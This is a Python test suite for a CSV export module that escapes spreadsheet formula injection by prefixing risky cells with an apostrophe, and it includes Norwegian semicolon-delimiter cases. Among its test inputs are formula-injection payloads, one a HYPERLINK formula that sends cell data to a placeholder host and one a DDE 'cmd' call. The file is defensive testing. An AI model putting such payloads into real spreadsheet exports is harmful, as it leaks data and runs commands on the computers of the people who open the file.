"""A spreadsheet opens the file as it is meant, and computes nothing that a customer wrote."""

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from unicodedata import normalize
from zoneinfo import ZoneInfo

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from rules.csv_cells import as_csv, harmless

OSLO = ZoneInfo("Europe/Oslo")


def read(file, delimiter=","):
    text = file.decode("utf-8-sig")
    return list(csv.reader(text.splitlines(keepends=True), delimiter=delimiter, strict=delimiter == ","))


def one(cell):
    return read(as_csv(["cell"], [[cell]], OSLO))[1][0]


def is_formula(cell):
    """What some spreadsheet would compute, however kindly it trims: written apart from the rule it checks."""
    while cell and (cell[0].isspace() or not cell[0].isprintable() or cell[0] in "'\"`’‘“”„‚«»＇＂"):
        cell = cell[1:]
    return bool(cell) and normalize("NFKC", cell[0]) in ("=", "+", "-", "@", "−")


def test_the_file_is_rfc_4180_in_utf_8_with_the_mark_that_excel_wants():
    file = as_csv(["språk", "svar"], [["bokmål", 3], ['sa "hei", og gikk', None]], OSLO)
    assert file == (b"\xef\xbb\xbf" + '"språk","svar"\r\n"bokmål",3\r\n"sa ""hei"", og gikk",""\r\n'.encode())


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (None, ""),
        ("", ""),
        (0, "0"),
        (-5, "-5"),
        (10**20, "100000000000000000000"),
        (0.65, "0.65"),
        (-1.5, "-1.5"),
        (Decimal("-1.50"), "-1.50"),
        (True, "true"),
        (date(2026, 3, 2), "2026-03-02"),
        (datetime(2026, 3, 2, 11, 0, tzinfo=UTC), "2026-03-02T12:00:00+01:00"),
        (datetime(2026, 7, 2, 10, 0, tzinfo=UTC), "2026-07-02T12:00:00+02:00"),
        ("Kom igjen; nei", "Kom igjen; nei"),
        ("two\nlines\r\nor three", "two\nlines\r\nor three"),
        ("3-4", "3-4"),
        ("someone@example.no", "someone@example.no"),
    ],
)
def test_what_is_no_danger_stays_as_it_is(cell, written):
    assert one(cell) == written


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example?"&A1,"Error")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\tplain",
        "  =1",
        "\u00a0=1",
        "\u200b=1",
        "\ufeff=1",
        "\u202e=1",
        "'=1",
        '"=1"',
        "“=1”",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "﹣1",
        "−1",
        "-5",  # a text is a text, also when it looks like a number
        "+47 22 22 55 55",
    ],
)
def test_a_text_that_could_be_computed_begins_with_an_apostrophe(text):
    assert one(text) == "'" + text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("\n=1", "'\n'=1"),
        ("hi;=1+1", "hi;'=1+1"),
        ("hi; -1", "hi;' -1"),
        ("hi;;\t -1", "hi;;\t' -1"),
        ('hi;"=1', "hi;'\"=1"),
        ("hi\t=1", "hi\t'=1"),
        ("hi\r\n=1", "hi\r\n'=1"),
    ],
)
def test_it_does_not_begin_to_compute_in_the_middle_either(text, written):
    """Where Excel is set to semicolons, as in Norway, our quotes do not hold a cell together."""
    assert one(text) == written


TEXTS = st.one_of(
    st.text(),
    st.text(alphabet="=+-@＝－ \t\r\n;,'\"“ax1\u200b\0\ud800", max_size=12),
)
CELLS = st.one_of(
    TEXTS,
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    st.datetimes(timezones=st.just(UTC), min_value=datetime(1970, 1, 1), max_value=datetime(2100, 1, 1)),  # noqa: DTZ001
    st.dates(),
)


@given(st.lists(st.tuples(CELLS, CELLS), max_size=6))
@example([("=1", "a;=1"), ("a\n=1", -1)])
def test_no_text_is_a_formula_and_everything_else_is_read_back(rows):
    header, *lines = read(as_csv(["a", "=b"], rows, OSLO))
    assert header == ["a", "'=b"]
    assert len(lines) == len(rows)
    for row, line in zip(rows, lines, strict=True):
        for cell, found in zip(row, line, strict=True):
            match cell:
                case bool():
                    assert found == str(cell).lower()
                case int() | float():
                    assert type(cell)(found) == cell
                case str():
                    # Taken for text by its first mark, or no formula even when it is trimmed.
                    assert found[:1] == "'" or not is_formula(found)
                    assert found[:1] not in ("\t", "\r", "\n", "\0", "=", "+", "-", "@")
                    assert found == harmless(cell)
                case None:
                    assert found == ""
                case datetime():
                    assert datetime.fromisoformat(found) == cell.replace(microsecond=0)
                case _:
                    assert date.fromisoformat(found) == cell


@given(st.lists(st.tuples(TEXTS, TEXTS), min_size=1, max_size=4), st.sampled_from(";\t"))
def test_no_other_way_to_read_the_file_finds_a_formula(rows, delimiter):
    text = as_csv(["a", "b"], rows, OSLO).decode("utf-8-sig")
    # As simply as can be: every line and every separator begins a cell.
    for cell in (cell for line in text.splitlines() for cell in line.split(delimiter)):
        kept = cell.lstrip("\"' \t\u200b")
        if kept.startswith(("=", "+", "-", "@")):
            assert "'" in cell.removesuffix(kept)


@given(TEXTS)
def test_the_apostrophe_is_all_that_is_added(text):
    whole = text.replace("\0", "\ufffd").replace("\ud800", "\ufffd")
    added = harmless(whole)
    rest = iter(added)
    assert all(mark in rest for mark in whole)  # nothing is lost, nothing changes places
    assert len(added) - len(whole) == added.count("'") - whole.count("'")


@pytest.mark.parametrize(
    ("cell", "told"),
    [
        (float("nan"), "no number"),
        (float("-inf"), "no number"),
        (Decimal("NaN"), "no number"),
        (datetime(2026, 3, 2), "no time zone"),  # noqa: DTZ001
    ],
)
def test_what_means_nothing_is_not_written(cell, told):
    with pytest.raises(ValueError, match=told):
        as_csv(["a"], [[cell]], OSLO)


def test_a_row_has_a_cell_for_each_name():
    with pytest.raises(ValueError, match="1 cells under 2 names"):
        as_csv(["a", "b"], [["x"]], OSLO)
